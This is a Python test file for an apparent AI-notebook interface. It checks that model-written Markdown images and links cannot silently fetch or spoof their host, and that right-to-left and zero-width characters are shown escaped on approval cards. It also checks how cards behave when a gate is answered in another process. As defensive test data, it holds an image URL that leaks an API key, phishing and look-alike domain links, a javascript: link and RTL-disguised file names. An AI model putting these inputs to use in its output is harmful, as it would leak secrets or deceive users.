"""What the views show of text they did not write: the model's Markdown fetches nothing by itself
(an image is a link naming its host, a link shows its host), invisible characters (bidi controls,
zero-width ones) show escaped on cards, rows and edit forms, and a card whose gate was answered
elsewhere stops offering Edit / Approve / Refuse (no kernel: ``Button.click()``)."""

from __future__ import annotations

import html
import json
from html.parser import HTMLParser

import pytest

import loom_nb as loom
from loom_nb.agent.run import Run
from loom_nb.journal import InMemoryJournal, digest_value
from loom_nb.kernel import FlowRegistry
from loom_nb.notebook.cards import ApprovalCard
from loom_nb.notebook.run_view import RunView, markdown_html
from loom_nb.notebook.safe_text import BIDI_CONTROLS, unescape_visible, visible, visible_json
from loom_nb.testing import FakeClock, SequentialIds
from tests.notebook.support import TidyAgent, make_runtime

GATE = "#turn:1:tool:0:approval"
FORGED = "/home/ana/\u202etxt.sedils\u202c"  # reads as /home/ana/slides.txt where it is not escaped
HIDDEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\x07"  # zero-width and other format or control characters


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text a reader sees."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def parsed(markup: str) -> Elements:
    p = Elements()
    p.feed(markup)
    return p


def shows_no_invisible(markup: str) -> bool:
    text = html.unescape(markup)
    return not any(ch in text for ch in BIDI_CONTROLS | set(HIDDEN))


# -- Markdown: nothing fetched by itself ----------------------------------------------------------
LEAK = "http://127.0.0.1:9/leak?data=API_KEY_sk-live-123&file=salaries.xlsx"


def test_an_image_in_model_text_is_a_link_naming_its_host_and_loads_nothing() -> None:
    text = (
        f"Here is the chart: ![chart]({LEAK})\n\n"
        "![ref image][r] and [![inner](http://img.example/i.png)](http://site.example/page)\n\n"
        "![](data:image/png;base64,iVBORw0KGgo=)\n\n"
        "[r]: http://ref.example/pixel.gif"
    )
    out = parsed(markdown_html(text))
    assert not [t for t, _ in out.tags if t in ("img", "picture", "source", "video", "audio", "iframe", "object")]
    assert not [a for _, a in out.tags if "src" in a or "srcset" in a or "style" in a]
    assert "[image: chart · 127.0.0.1:9]" in out.text
    assert "[image: ref image · ref.example]" in out.text
    assert "[image: inner · img.example]" in out.text and "(→ site.example)" in out.text
    assert "[image · data URL]" in out.text
    links = {a["href"]: a for t, a in out.tags if t == "a"}
    assert LEAK in links  # the reader may open it: a click, in a new tab
    assert links[LEAK]["target"] == "_blank" and "noreferrer" in str(links[LEAK]["rel"])
    assert "http://img.example/i.png" not in links  # no link inside a link: the inner image is a placeholder


def test_a_link_shows_the_host_it_goes_to() -> None:
    out = parsed(
        markdown_html(
            "[Approve](http://evil.example/phish) · [bank](http://bank.example@evil.example:8080/x) · "
            "<http://\u0430pple.com/login> · [docs](/files/notes.md) · [mail](mailto:ana@corp.example) · "
            "[x](javascript:alert(1))"
        )
    )
    assert "Approve (→ evil.example)" in out.text
    assert "bank (→ evil.example:8080)" in out.text  # userinfo is not the host
    assert "(→ xn--pple-43d.com)" in out.text  # a look-alike name in the form the browser contacts
    assert "docs (→ this server)" in out.text and "mail (→ ana@corp.example)" in out.text
    assert not [a for t, a in out.tags if t == "a" and str(a.get("href", "")).startswith("javascript")]
    assert "[x](javascript:alert(1))" in out.text


def test_bidi_controls_in_model_text_show_escaped_and_joiners_stay() -> None:
    out = markdown_html(f"Open `{FORGED}` then [it](http://a.example/\u202e) 👨\u200d👩\u200d👧")
    assert "\\u202e" in out and "\u202e" not in html.unescape(out)
    assert "👨\u200d👩\u200d👧" in out  # prose keeps its zero-width joiners


def test_visible_escapes_what_repr_escapes_and_unescape_reads_it_back() -> None:
    assert visible(FORGED) == "/home/ana/\\u202etxt.sedils\\u202c"
    assert visible("a\u00a0b\nc\td\U000e0001") == "a\\xa0b\nc\td\\U000e0001"
    assert visible("C:\\users\\x41 日本 é") == "C:\\users\\x41 日本 é"
    for text in (FORGED, HIDDEN, "C:\\x41\\u0041 \\u202e literal", "line\nnext\u2028"):
        shown = visible(text)
        assert shows_no_invisible(shown)
        if "literal" not in text:
            assert unescape_visible(shown) == text
    assert unescape_visible("C:\\x41") == "C:\\x41"  # an escape of a printable character stays as typed
    value = {"to": [FORGED], "n": 1}
    assert json.loads(visible_json(value)) == value and shows_no_invisible(visible_json(value))


# -- invisible characters on cards, rows and edit forms ------------------------------------------
async def paused(t: TidyAgent, rt: loom.Runtime | None = None) -> tuple[Run, RunView, ApprovalCard]:
    run = t.agent.start("tidy", runtime=rt or make_runtime())
    view = RunView(run)
    await run.wait(until="paused")
    card = view.cards[GATE]
    assert isinstance(card, ApprovalCard)
    return run, view, card


async def test_an_argument_with_bidi_controls_shows_escaped_on_the_card_and_in_its_form() -> None:
    t = TidyAgent(paths=(FORGED,))
    run, view, card = await paused(t)
    args = card.children[1].value
    assert shows_no_invisible(args) and "/home/ana/\\u202etxt.sedils\\u202c" in html.unescape(args)
    assert "slides.txt" not in parsed(args).text
    assert shows_no_invisible(card.status.value) and "\u202e" not in card.text() + card.summary()
    field = card.form.fields["path"]
    assert field.value == "/home/ana/\\u202etxt.sedils\\u202c"
    card.edit.click()
    assert card.form.values() == {"path": FORGED}  # unchanged: exactly the model's argument
    card.reason.value = "ok\u202e by me"
    card.approve.click()
    await run
    assert t.deleted == [FORGED]
    (resolved,) = [e.data["payload"] for e in run.runtime.journal.read(run.id) if e.kind == "gate_resolved"]
    assert resolved["arguments"] == {"path": FORGED} and resolved["digest"] == digest_value({"path": FORGED})
    row = view.tool_rows["#turn:1:tool:0"]
    assert shows_no_invisible(row.widget.value) and "\u202e" not in row.text()
    assert "ok\\u202e by me" in html.unescape(row.widget.value)  # the reason too
    assert "deleted /home/ana/\\u202etxt" in html.unescape(row.widget.value)  # the result preview too


async def test_an_edited_field_reads_its_escapes_back_as_the_characters() -> None:
    t = TidyAgent(paths=("a\u200bb",))
    run, _, card = await paused(t)
    card.edit.click()
    card.form.fields["path"].value = "/tmp/x/\\u200bnew"
    assert card.form.values() == {"path": "/tmp/x/\u200bnew"}
    card.refuse.click()
    await run


async def test_a_refusal_reason_shows_escaped_on_the_card_and_its_row() -> None:
    t = TidyAgent(paths=("/tmp/x/a",))
    run, view, card = await paused(t)
    card.reason.value = "no\u202e" + HIDDEN
    card.refuse.click()
    await run
    assert card.decision is not None and shows_no_invisible(card.status.value)
    assert shows_no_invisible(card.text())
    row = view.tool_rows["#turn:1:tool:0"]
    assert shows_no_invisible(row.widget.value) and shows_no_invisible(row.text())


async def test_a_problem_on_a_card_shows_escaped() -> None:
    run, _, card = await paused(TidyAgent())
    card.show_problem("flow \u202eemankcab")
    assert shows_no_invisible(card.problem_box.value)
    card.refuse.click()
    await run


# -- a gate answered elsewhere -----------------------------------------------------------------
def runtime_on(journal: InMemoryJournal) -> loom.Runtime:
    return loom.Runtime(journal, clock=FakeClock(tick=0.01), ids=SequentialIds(), flows=FlowRegistry())


async def answered_elsewhere(paths: tuple[str, ...], answer: int) -> tuple[Run, RunView, TidyAgent]:
    """A run paused in this notebook (runtime ``here``) whose first ``answer`` gates another
    process (runtime ``there`` on the same journal) approved; nothing told the view."""
    t = TidyAgent(paths=paths)
    journal = InMemoryJournal()
    here, there = runtime_on(journal), runtime_on(journal)
    run, view, _ = await paused(t, here)
    t.agent.register(there)
    other = Run.attach(there, run.id, agent=t.agent)
    for gate in other.gates[:answer]:
        gate.approve("from the other process")
    return run, view, t


@pytest.mark.parametrize("control", ["edit", "approve", "refuse"])
async def test_a_card_clicked_after_its_gate_was_answered_elsewhere_shows_the_answer(control: str) -> None:
    _, view, _ = await answered_elsewhere(("/tmp/x/a", "/tmp/x/b"), answer=1)
    card = view.cards[GATE]
    assert isinstance(card, ApprovalCard)
    assert not card.edit.disabled  # nothing told this view yet
    getattr(card, control).click()
    assert card.decision is not None and card.decision.startswith("approved (from the other process) at ")
    assert card.edit.disabled and card.approve.disabled and card.refuse.disabled
    assert not card.editing and card.form.layout.display == "none"
    assert "already decided" not in html.unescape(card.status.value)
    card.edit.click()
    assert not card.editing
    second = view.cards["#turn:1:tool:1:approval"]
    assert not second.decided and not second.approve.disabled  # the other gate is still open here


async def test_a_card_shows_the_answer_given_elsewhere_once_the_run_is_read_again() -> None:
    run, view, _ = await answered_elsewhere(("/tmp/x/a", "/tmp/x/b"), answer=1)
    card = view.cards[GATE]
    assert isinstance(card, ApprovalCard) and not card.decided
    run.refresh()  # what Run.follow, %loom show or a second look does: the open gates change
    assert card.decision is not None and card.edit.disabled and card.approve.disabled
    assert "approved (from the other process)" in card.text()


async def test_a_card_clicked_after_the_run_completed_elsewhere_shows_the_truth() -> None:
    """A card of a run another process answered and drove to its end (a shared journal): a click
    shows the answer given there, records nothing more, and the view reads the run's end."""
    t = TidyAgent()
    journal = InMemoryJournal()
    here, there = runtime_on(journal), runtime_on(journal)
    run, view, card = await paused(t, here)
    t.agent.register(there)
    other = Run.attach(there, run.id, agent=t.agent)
    other.gates[0].approve("from the other process")
    await other
    assert other.status == "completed" and run.status == "suspended"  # nothing told this kernel
    card.approve.click()
    assert card.decision is not None and card.decision.startswith("approved (from the other process) at ")
    assert card.approve.disabled and card.refuse.disabled and card.edit.disabled
    assert run.status == "completed" and "completed" in view.text() and "Done. I removed" in view.text()
    assert len([e for e in journal.read(run.id) if e.kind == "gate_resolved"]) == 1


async def test_the_batch_view_shows_an_item_and_its_card_escaped() -> None:
    from loom_nb.notebook.batch_view import BatchView
    from tests.notebook.test_batch_view import agent

    batch = agent().map(["send to ann\u202egpj.exe"], runtime=make_runtime(), view=False)
    view = BatchView(batch)
    await batch
    view.flush()
    label, card = view.gate_box.children[0].children
    assert isinstance(card, ApprovalCard)
    assert "send to ann\\u202egpj.exe" in html.unescape(label.value) and shows_no_invisible(label.value)
    assert shows_no_invisible(card.children[1].value) and shows_no_invisible(view.text())
